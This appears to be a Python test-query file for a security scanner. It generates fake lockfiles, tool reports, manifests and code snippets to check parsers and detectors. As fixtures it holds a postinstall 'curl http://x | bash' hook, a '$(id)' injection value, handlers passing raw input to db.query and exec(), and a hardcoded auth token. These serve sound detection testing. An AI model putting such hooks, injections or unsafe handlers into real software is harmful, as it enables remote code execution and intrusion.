"""Registered queries of lockfile and report readers, settings checks and small text operators.

The driver's tables have no such files: they are written from the rows of `part`, `documents` and `events`, parsed by the
library, and compared with the rows that they were written from.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from gneiss.functions.scalars import escape_sentinels, fnv1a, js_trim
from gneiss.operators import deps as D
from gneiss.operators import findings as A
from gneiss.operators import graph as G
from gneiss.operators import textscan as T
from gneiss.operators.scoring import cache_stats
from gneiss.plans.base import files, findings, query, read
from gneiss.sources import imports, lockfiles
from gneiss.sources.corpus import explode_lines

_PART = "p AS (SELECT replace(p_name, ' ', '-') || '-' || p_partkey AS name, '1.' || p_size || '.' || p_partkey AS version, p_partkey % 37 AS d, p_partkey AS k FROM part)"


def parts(spark: SparkSession, sf_dir: str) -> DataFrame:
    """name, version, d (one of 37 projects), k."""
    p = read(spark, sf_dir, "part")
    name = F.concat(F.replace("p_name", F.lit(" "), F.lit("-")), F.lit("-"), F.col("p_partkey").cast("string"))
    return p.select(name.alias("name"), F.concat(F.lit("1."), F.col("p_size").cast("string"), F.lit("."), F.col("p_partkey").cast("string")).alias("version"), (F.col("p_partkey") % 37).alias("d"), F.col("p_partkey").alias("k"))


def lockfile(p: DataFrame, name: str, content: Column) -> DataFrame:
    """files(path, content): a lockfile for each project."""
    return p.groupBy("d").agg(content.alias("content")).select(F.concat(F.lit("d"), F.col("d").cast("string"), F.lit(f"/{name}")).alias("path"), "content")


def joined(line: Column, before: str = "", after: str = "") -> Column:
    return F.concat(F.lit(before), F.array_join(F.collect_list(line), "\n"), F.lit(after))


def entries(version: Column, prefix: str = "") -> Column:
    return F.map_from_entries(F.collect_list(F.struct(F.concat(F.lit(prefix), F.col("name")), F.struct(version.alias("version")))))


def _lock(kind: str, name: str, ecosystem: str, content: Column) -> None:
    sql = f"WITH {_PART} SELECT name, version, '{ecosystem}' AS ecosystem, 'd' || d || '/{name}' AS lockfile FROM p"

    @query(f"lock_{kind}", sql)
    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        return lockfiles.PARSERS[name](lockfile(parts(spark, sf_dir), name, content()))


_lock("npm", "package-lock.json", "npm", lambda: F.to_json(F.when(F.first("d") % 2 == 0, F.struct(entries(F.col("version"), "node_modules/").alias("packages"), F.lit(None).cast("map<string,struct<version:string>>").alias("dependencies"))).otherwise(F.struct(F.lit(None).cast("map<string,struct<version:string>>").alias("packages"), entries(F.col("version")).alias("dependencies")))))
_lock("yarn", "yarn.lock", "npm", lambda: joined(F.format_string('"%s@^1.0.0":\n  version "%s"\n  resolved "https://r/x"\n', "name", "version"), "# yarn lockfile v1\n\n"))
_lock("requirements", "requirements.txt", "PyPI", lambda: joined(F.when(F.col("k") % 2 == 0, F.format_string("%s==%s  # pinned", "name", "version")).otherwise(F.format_string("%s[extra] == %s", "name", "version")), "# all\n-r other.txt\nopen>=1\n"))
_lock("pipfile", "Pipfile.lock", "PyPI", lambda: F.to_json(F.struct(entries(F.concat(F.lit("=="), "version")).alias("default"))))
_lock("go_sum", "go.sum", "Go", lambda: joined(F.format_string("%s v%s h1:abc=\n%s v%s/go.mod h1:def=", "name", "version", "name", "version"), after="\n"))
_lock("cargo", "Cargo.lock", "crates.io", lambda: joined(F.format_string('[[package]]\nname = "%s"\nversion = "%s"\n', "name", "version"), "version = 3\n\n"))
_lock("gemfile", "Gemfile.lock", "RubyGems", lambda: joined(F.format_string("    %s (%s)\n      inner (~> 1)", "name", "version"), "GEM\n  remote: https://rubygems.org/\n  specs:\n", "\n\nPLATFORMS\n    ruby (1)\n"))
_lock("composer", "composer.lock", "Packagist", lambda: F.to_json(F.struct(F.collect_list(F.struct("name", F.concat(F.lit("v"), "version").alias("version"))).alias("packages"))))


@query("lock_discover", "SELECT 'd3/' || n AS path FROM (SELECT unnest(['yarn.lock', 'go.sum', 'pom.xml']) AS n)")
def lock_discover(spark: SparkSession, sf_dir: str) -> DataFrame:
    names = F.array(*map(F.lit, ("yarn.lock", "go.sum", "pom.xml", "other.lock", "sub/yarn.lock")))
    paths = parts(spark, sf_dir).select("d").distinct().select(F.concat(F.lit("d"), F.col("d").cast("string"), F.lit("/")).alias("d"), F.explode(names).alias("n")).select(F.concat("d", "n").alias("path"))
    return lockfiles.discover(paths, "d3")


def reports(spark: SparkSession, sf_dir: str, content: Column, by: str = "doc_id") -> DataFrame:
    return read(spark, sf_dir, "documents").select("doc_id", "source", "lang", (F.col("doc_id") % 7).alias("m")).select(F.concat(F.lit("r"), F.col(by).cast("string")).alias("path"), content.alias("content"))


def pick(n: int, *values: str) -> Column:
    return F.element_at(F.array(*map(F.lit, values)), (F.col("doc_id") % n + 1).cast("int"))


def text(prefix: str, column: str = "m") -> Column:
    return F.concat(F.lit(prefix), F.col(column).cast("string"))


_FIELDS = ("rule", "title", "severity", "file", "line", "tool")


@query("import_sarif", "SELECT 'R' || (doc_id % 7) AS rule, 'message ' || lang AS title, ['high', 'medium', 'low', 'medium'][doc_id % 4 + 1] AS severity, source AS file, doc_id AS line, 'sarif' AS tool FROM documents")
def import_sarif(spark: SparkSession, sf_dir: str) -> DataFrame:
    place = F.struct(F.struct(F.col("source").alias("uri")).alias("artifactLocation"), F.struct(F.col("doc_id").alias("startLine")).alias("region")).alias("physicalLocation")
    result = F.struct(text("R").alias("ruleId"), pick(4, "error", "warning", "note", "none").alias("level"), F.struct(text("message ", "lang").alias("text")).alias("message"), F.array(F.struct(place)).alias("locations"))
    made = F.to_json(F.struct(F.lit("2.1.0").alias("version"), F.array(F.struct(F.array(result).alias("results"))).alias("runs")))
    return imports.import_reports(reports(spark, sf_dir, made)).select(*_FIELDS)


@query("import_snyk", "SELECT 'S' || (doc_id % 7) AS rule, 'title ' || lang AS title, ['critical', 'low', 'info'][doc_id % 3 + 1] AS severity, source AS file, 0::BIGINT AS line, 'snyk' AS tool FROM documents")
def import_snyk(spark: SparkSession, sf_dir: str) -> DataFrame:
    made = F.to_json(F.struct(F.array(F.struct(text("S").alias("id"), text("title ", "lang").alias("title"), pick(3, "critical", "low", "odd").alias("severity"), F.array("source", "lang").alias("from"))).alias("vulnerabilities")))
    return imports.import_reports(reports(spark, sf_dir, made)).select(*_FIELDS)


@query("import_trivy", "SELECT * FROM (SELECT 'V' || (doc_id % 7) AS rule, 'V' || (doc_id % 7) AS title, ['high', 'unknown'][doc_id % 2 + 1] AS severity, source AS file, 0::BIGINT AS line, 'trivy' AS tool FROM documents UNION ALL SELECT 'M' || (doc_id % 7), lang, 'low', source, doc_id, 'trivy' FROM documents)")
def import_trivy(spark: SparkSession, sf_dir: str) -> DataFrame:
    bad = F.struct(text("V").alias("VulnerabilityID"), pick(2, "HIGH", "UNKNOWN").alias("Severity"), F.col("lang").alias("PkgName"))
    wrong = F.struct(text("M").alias("ID"), F.col("lang").alias("Title"), F.lit("LOW").alias("Severity"), F.struct(F.col("doc_id").alias("StartLine")).alias("CauseMetadata"))
    made = F.to_json(F.struct(F.array(F.struct(F.col("source").alias("Target"), F.array(bad).alias("Vulnerabilities"), F.array(wrong).alias("Misconfigurations"))).alias("Results")))
    return imports.trivy_all(reports(spark, sf_dir, made)).select(*_FIELDS)


@query("import_tools", "SELECT 'G' || (doc_id % 7) AS rule, lang AS title, 'critical' AS severity, source AS file, doc_id AS line, 'gitleaks' AS tool FROM documents UNION ALL SELECT 'C' || (doc_id % 7), lang, 'high', source, doc_id, 'checkov' FROM documents WHERE doc_id % 2 = 0 UNION ALL SELECT 'N' || (doc_id % 7), lang, ['medium', 'info'][doc_id % 2 + 1], source, 0, 'nuclei' FROM documents")
def import_tools(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Adapters of three tools' outputs."""
    leak = F.struct(text("G").alias("RuleID"), F.col("lang").alias("Description"), F.col("source").alias("File"), F.col("doc_id").alias("StartLine"), F.lit("s3cr3t-value").alias("Secret"))
    check = F.struct(text("C").alias("check_id"), F.col("lang").alias("check_name"), F.col("source").alias("file_path"), F.array("doc_id", "doc_id").alias("file_line_range"), F.struct(pick(2, "FAILED", "PASSED").alias("result")).alias("check_result"))
    match = F.struct(text("N").alias("template-id"), F.struct(F.col("lang").alias("name"), pick(2, "Medium", "odd").alias("severity")).alias("info"), F.col("source").alias("matched-at"))
    made = {imports.gitleaks: F.to_json(F.array(leak)), imports.checkov: F.to_json(F.struct(F.struct(F.array(check).alias("failed_checks")).alias("results"))), imports.nuclei: F.concat(F.lit("not json\n"), F.to_json(match))}
    found = [reader(reports(spark, sf_dir, content)).select(*_FIELDS) for reader, content in made.items()]
    return found[0].unionByName(found[1]).unionByName(found[2])


@query("import_detect", "SELECT ['sarif', 'semgrep', 'snyk', 'none'][doc_id % 4 + 1] AS format, count(*) AS n FROM documents GROUP BY 1")
def import_detect(spark: SparkSession, sf_dir: str) -> DataFrame:
    made = pick(4, '{"version": "2.1.0", "runs": []}', '{"results": [{"check_id": "x"}]}', '{"vulnerabilities": []}', '{"Results": []}')
    return reports(spark, sf_dir, made).groupBy(F.coalesce(imports.detect(F.col("content")), F.lit("none")).alias("format")).agg(F.count("*").alias("n"))


@query("tool_output_parse", "SELECT doc_id, CASE WHEN doc_id % 2 = 0 THEN 1 ELSE 2 END::BIGINT AS n FROM documents")
def tool_output_parse(spark: SparkSession, sf_dir: str) -> DataFrame:
    made = F.when(F.col("doc_id") % 2 == 0, F.lit('{"a": [1,\n2]}')).otherwise(F.lit('start\n{"a": 1}\nplain {\n{"b": 2}'))
    d = read(spark, sf_dir, "documents").select(F.col("doc_id").cast("string").alias("path"), made.alias("content"), "doc_id")
    return imports.json_or_lines(d.select("path", "content")).groupBy(F.col("path").cast("long").alias("doc_id")).agg(F.count("*").alias("n"))


_MANIFEST = '{"name": "x", "private": true, "scripts": {"postinstall": "curl http://x | bash"}, "dependencies": {"a": "*", "corp-tools": "1.0.0", "g": "git://h/r.git"}}'
_REQUIREMENTS = "# pins\nok==1.0\nopen>=2\n--extra-index-url https://i\n"


def manifests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A manifest and Python requirements for each project, lockfiles for those that three divides."""
    d = parts(spark, sf_dir).select("d").distinct()
    made = F.array(F.struct(F.lit("package.json").alias("n"), F.lit(_MANIFEST).alias("c")), F.struct(F.lit("requirements.txt").alias("n"), F.lit(_REQUIREMENTS).alias("c")), F.struct(F.when(F.col("d") % 3 == 0, "yarn.lock").otherwise("readme.md").alias("n"), F.lit("").alias("c")), F.struct(F.lit(".npmrc").alias("n"), F.lit("registry=https://own\n//own/:_authToken=abc\n").alias("c")))
    return d.select(F.concat(F.lit("d"), F.col("d").cast("string")).alias("d"), F.explode(made).alias("f")).select(F.concat_ws("/", "d", "f.n").alias("path"), F.col("f.c").alias("content"))


@query("supply_chain", f"""WITH {_PART}, q AS (SELECT DISTINCT d FROM p), r(rule, severity, n) AS (VALUES ('supply:dangerous-install-script', 'high', 'package.json'), ('supply:git-dependency', 'medium', 'package.json'), ('supply:unpinned-dependency', 'medium', 'package.json'), ('supply:unpinned-python-dep', 'low', 'requirements.txt'), ('supply:custom-index', 'medium', 'requirements.txt'))
SELECT rule, severity, 'd' || d || '/' || n AS file FROM q, r UNION ALL SELECT 'supply:no-lockfile', 'medium', 'd' || d || '/package.json' FROM q WHERE d % 3 <> 0""")  # fmt: skip
def supply_chain(spark: SparkSession, sf_dir: str) -> DataFrame:
    return D.supply_chain(manifests(spark, sf_dir)).select("rule", "severity", "file")


@query("dependency_confusion", f"""WITH {_PART}, q AS (SELECT DISTINCT d FROM p), r(rule, severity, n, snippet) AS (VALUES ('depcon:unscoped-private', 'medium', 'package.json', 'x'), ('depcon:claimable-name', 'high', 'package.json', 'corp-tools'), ('depcon:global-private-registry', 'medium', '.npmrc', 'registry=https://own'), ('depcon:auth-token-hardcoded', 'high', '.npmrc', '//own/:_authToken=abc'), ('depcon:python-extra-index', 'high', 'requirements.txt', '--extra-index-url https://i'))
SELECT rule, severity, 'd' || d || '/' || n AS file, snippet FROM q, r""")  # fmt: skip
def dependency_confusion(spark: SparkSession, sf_dir: str) -> DataFrame:
    return D.dependency_confusion(manifests(spark, sf_dir))


@query("typosquats", "WITH d AS (SELECT ['lodahs', 'Expres', 'plain', 'lodash'][p_partkey % 4 + 1] AS name, p_partkey FROM part) SELECT 'supply:typosquat' AS rule, 'critical' AS severity, name, CASE name WHEN 'lodahs' THEN 'lodash' ELSE 'express' END AS target, 'l' || p_partkey AS file FROM d WHERE name IN ('lodahs', 'Expres')")
def typosquats(spark: SparkSession, sf_dir: str) -> DataFrame:
    name = F.element_at(F.array(*map(F.lit, ("lodahs", "Expres", "plain", "lodash"))), (F.col("p_partkey") % 4 + 1).cast("int"))
    return D.typosquats(read(spark, sf_dir, "part").select(name.alias("name"), F.concat(F.lit("l"), F.col("p_partkey").cast("string")).alias("lockfile")))


@query("env_checks", """WITH e AS (SELECT 'a' || p_partkey || CASE WHEN p_partkey % 2 = 0 THEN '/.env' ELSE '/.env.production' END AS file, p_partkey % 2 = 1 AS prod FROM part), r(rule, severity, line) AS (VALUES ('env:default-value', 'high', 1), ('env:empty-required', 'medium', 2), ('env:insecure-url', 'low', 4), ('env:injection', 'high', 5), ('env:not-gitignored', 'high', 0))
SELECT rule, severity, file, line::BIGINT AS line FROM e, r UNION ALL SELECT 'env:debug-in-prod', 'medium', file, 3 FROM e WHERE prod""")  # fmt: skip
def env_checks(spark: SparkSession, sf_dir: str) -> DataFrame:
    content = 'API_KEY="changeme"\nexport DB_PASSWORD=\nDEBUG=true\nURL=http://x.org\nCMD=$(id)\nLOCAL=http://localhost:80\n'
    k = F.col("p_partkey")
    own = read(spark, sf_dir, "part").select(F.concat(F.lit("a"), k.cast("string"), F.when(k % 2 == 0, "/.env").otherwise("/.env.production")).alias("path"), F.lit(content).alias("content"))
    return D.env_checks(own)


@query("redirect_headers", "SELECT 'c' || event_id AS file, 3::BIGINT AS line FROM events WHERE event_id % 3 = 0")
def redirect_headers(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id")
    body = F.when(k % 3 == 0, "// follow a Redirect\n\nh.replace(/^authorization$/i, '')").when(k % 3 == 1, "//\n\nh.replace(/^authorization$/i, '')").otherwise("// redirect\n\nh.replace(/^proxy-authorization$/i, '')")
    own = read(spark, sf_dir, "events").select(F.concat(F.lit("c"), k.cast("string")).alias("path"), body.alias("content")).withColumn("length", F.length("content"))
    return T.redirect_headers(own).select("file", "line")


@query("block_ends", "SELECT 'c' || event_id || CASE WHEN event_id % 2 = 0 THEN '.js' ELSE '.py' END AS path, CASE WHEN event_id % 2 = 0 THEN 'run' ELSE 'walk' END AS name, 2::BIGINT AS line, CASE WHEN event_id % 2 = 0 THEN 5 + event_id % 4 ELSE 4 + event_id % 4 END AS end_line FROM events")
def block_ends(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Ends of functions by braces and by indentation."""
    k = F.col("event_id")
    more = (k % 4).cast("int")
    js = F.concat(F.lit("// top\nfunction run(a, b) {\n  if (a) {\n  }\n"), F.repeat(F.lit("  b();\n"), more), F.lit("}\nafter();\n"))
    py = F.concat(F.lit("# top\ndef walk(a):\n    if a:\n        b()\n"), F.repeat(F.lit("    c()\n"), more), F.lit("after()\n"))
    even = k % 2 == 0
    own = read(spark, sf_dir, "events").select(F.concat(F.lit("c"), k.cast("string"), F.when(even, ".js").otherwise(".py")).alias("path"), F.when(even, js).otherwise(py).alias("content"), F.when(even, "javascript").otherwise("python").alias("lang"))
    return G.functions(own).select("path", "name", "line", "end_line")


_HANDLER = "app.get('/p', (req, res) => {\n  const id = req.query.id;\n  LINE\n  db.query(id);\n});\n"


@query("taint_flows", "SELECT 'c' || event_id || '.js' AS path, '/p' AS route, 'http-param' AS source, 'sql-injection' AS sink, CASE WHEN event_id % 3 = 0 THEN 'parseInt\\s*\\(' END AS sanitizer, 2::BIGINT AS source_line, 4::BIGINT AS sink_line FROM events")
def taint_flows(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _flows(spark, sf_dir).select("path", "route", "source", "sink", "sanitizer", "source_line", "sink_line")


def _flows(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id")
    body = F.replace(F.lit(_HANDLER), F.lit("LINE"), F.when(k % 3 == 0, "const n = parseInt(id);").otherwise("log(id);"))
    own = read(spark, sf_dir, "events").select(F.concat(F.lit("c"), k.cast("string"), F.lit(".js")).alias("path"), body.alias("content"), F.lit("javascript").alias("lang"))
    return G.taint_in_handlers(own)


@query("taint_to_findings", "SELECT 'taint:sql-injection' AS rule, 'SQL Injection Sink: http-param → sql-injection' AS title, 'sql' AS category, 'CWE-89' AS cwe, 'c' || event_id || '.js' AS file, 4::BIGINT AS line, 'critical' AS severity FROM events WHERE event_id % 3 <> 0")
def taint_to_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    return G.taint_findings(_flows(spark, sf_dir)).drop("confidence")


@query("taint_across", "SELECT 'm' || event_id || '.js:top' AS caller, 'm' || event_id || '.js:run' AS callee, 'command-injection' AS sink, 2::BIGINT AS sink_line, event_id % 4 = 0 AS sanitized FROM events")
def taint_across(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id")
    body = F.concat(F.lit("function run(input) {\n  exec("), F.when(k % 4 == 0, "escape(input)").otherwise("input"), F.lit(");\n}\nfunction top(x) {\n  run(x);\n}\n"))
    own = read(spark, sf_dir, "events").select(F.concat(F.lit("m"), k.cast("string"), F.lit(".js")).alias("path"), body.alias("content"), F.lit("javascript").alias("lang"))
    lines, fs = explode_lines(own), G.functions(own)
    edges = G.resolve_calls(G.calls(fs, lines), fs, G.imports(lines))
    return G.taint_across(fs, lines, edges).select("caller", "callee", "sink", "sink_line", "sanitized")


@query("content_hash", "SELECT doc_id, sha256(coalesce(text, '')) AS hash FROM documents")
def content_hash(spark: SparkSession, sf_dir: str) -> DataFrame:
    return read(spark, sf_dir, "documents").select("doc_id", F.sha2(F.coalesce("text", F.lit("")), 256).alias("hash"))


@query("rule_config_hash", """WITH RECURSIVE t AS (SELECT p_partkey AS k, '{"enabled":["r' || (p_partkey % 50) || '"],"disabled":["a","b"]}' AS s FROM part), c AS (SELECT DISTINCT s FROM t),
h AS (SELECT s, 0 AS i, 2166136261::UBIGINT AS h FROM c UNION ALL SELECT s, i + 1, ((xor(h, ascii(s[i + 1])::UBIGINT)::HUGEINT * 16777619) % 4294967296)::UBIGINT FROM h WHERE i < length(s))
SELECT t.k, lpad(lower(to_hex(h.h)), 8, '0') AS hash FROM t JOIN h ON h.s = t.s AND h.i = length(h.s)""")  # fmt: skip
def rule_config_hash(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = read(spark, sf_dir, "part")
    return p.select(F.col("p_partkey").alias("k"), A.rule_config_hash(F.array(F.concat(F.lit("r"), (F.col("p_partkey") % 50).cast("string"))), F.array(F.lit("b"), F.lit("a"))).alias("hash"))


@query("text_fnv1a", None)
def text_fnv1a(spark: SparkSession, sf_dir: str) -> DataFrame:
    """FNV-1a of the first line of each document; unit tests hold its known values."""
    return read(spark, sf_dir, "documents").select("doc_id", fnv1a(F.split(F.coalesce("text", F.lit("")), "\n")[0]).alias("hash"))


@query("trim_lines", "SELECT doc_id, regexp_replace(regexp_replace(coalesce(text, ''), '^[\\s]+', ''), '[\\s]+$', '') AS trimmed FROM (SELECT doc_id, '\t ' || split_part(coalesce(text, ''), chr(10), 1) || ' ' || chr(10) AS text FROM documents)")
def trim_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    line = F.split(F.coalesce("text", F.lit("")), "\n")[0]
    return read(spark, sf_dir, "documents").select("doc_id", js_trim(F.concat(F.lit("\t "), line, F.lit(" \n"))).alias("trimmed"))


@query("escape_sentinels", "SELECT conv_id, turn, '&lt;/untrusted_input&gt;' || replace(replace(text, '<untrusted', '&lt;untrusted'), '</untrusted', '&lt;/untrusted') AS text FROM conversations")
def sentinels(spark: SparkSession, sf_dir: str) -> DataFrame:
    return read(spark, sf_dir, "conversations").select("conv_id", "turn", escape_sentinels(F.concat(F.lit("</untrusted_input>"), "text")).alias("text"))


@query("json_candidates", """SELECT event_id, ['{"a": {"b": "}"}}', '{"c": 1}', '{"d": 2}', ''][event_id % 4 + 1] AS first, [2, 1, 1, 0][event_id % 4 + 1]::BIGINT AS n FROM events""")
def json_candidates(spark: SparkSession, sf_dir: str) -> DataFrame:
    k = F.col("event_id")
    body = F.when(k % 4 == 0, '{"a": {"b": "}"}}').when(k % 4 == 1, 'Here: {"c": 1} done').when(k % 4 == 2, 'see\n```json\n{"d": 2}\n```\n').otherwise("none { here")
    found = read(spark, sf_dir, "events").select("event_id", T.json_candidates(body).alias("c"))
    return found.select("event_id", F.coalesce(F.get("c", F.lit(0)), F.lit("")).alias("first"), F.size("c").alias("n"))


@query("cache_stats", "SELECT count(*) AS entries, min(event_id) AS oldest FROM events")
def cache(spark: SparkSession, sf_dir: str) -> DataFrame:
    return cache_stats(read(spark, sf_dir, "events").select(F.col("event_id").alias("cached_at")))


@query("interval_buckets", "SELECT strftime(date_trunc('month', o_orderdate), '%Y-%m-%d') AS month, count(*) AS n FROM orders GROUP BY 1")
def interval_buckets(spark: SparkSession, sf_dir: str) -> DataFrame:
    month = F.date_trunc("month", F.col("o_orderdate").cast("timestamp"))
    return read(spark, sf_dir, "orders").groupBy(F.date_format(month, "yyyy-MM-dd").alias("month")).agg(F.count("*").alias("n"))


@query("search_lines", "WITH l AS (SELECT path, unnest(string_split(content, chr(10))) AS line, generate_subscripts(string_split(content, chr(10)), 1) AS n FROM (SELECT 'doc/' || doc_id AS path, text AS content FROM documents UNION ALL SELECT 'page/' || page_id || '.html', html FROM pages UNION ALL SELECT 'conv/' || conv_id || '/' || turn, text FROM conversations)) SELECT path, n::BIGINT AS line_no, length(substr(trim(line, ' '), 1, 120))::BIGINT AS n FROM l WHERE contains(line, 'license')")
def search_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    found = explode_lines(files(spark, sf_dir)).where(F.contains("line", F.lit("license")))
    return found.select("path", "line_no", F.length(F.substring(F.trim("line"), 1, 120)).alias("n"))


@query("scanners_merged", "SELECT 'a' AS scanner, count(*) AS n FROM lineitem UNION ALL SELECT 'c', count(*) FROM lineitem WHERE l_quantity >= 46")
def scanners_merged(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Three scanners of which one fails: the others' findings stay."""
    f = findings(spark, sf_dir)

    def failing() -> DataFrame:
        raise RuntimeError("scanner failed")

    kept, _ = A.merge_scanners({"a": lambda: f.select("id"), "b": failing, "c": lambda: f.where("severity = 'critical'").select("id")})
    return kept.groupBy("scanner").agg(F.count("*").alias("n"))
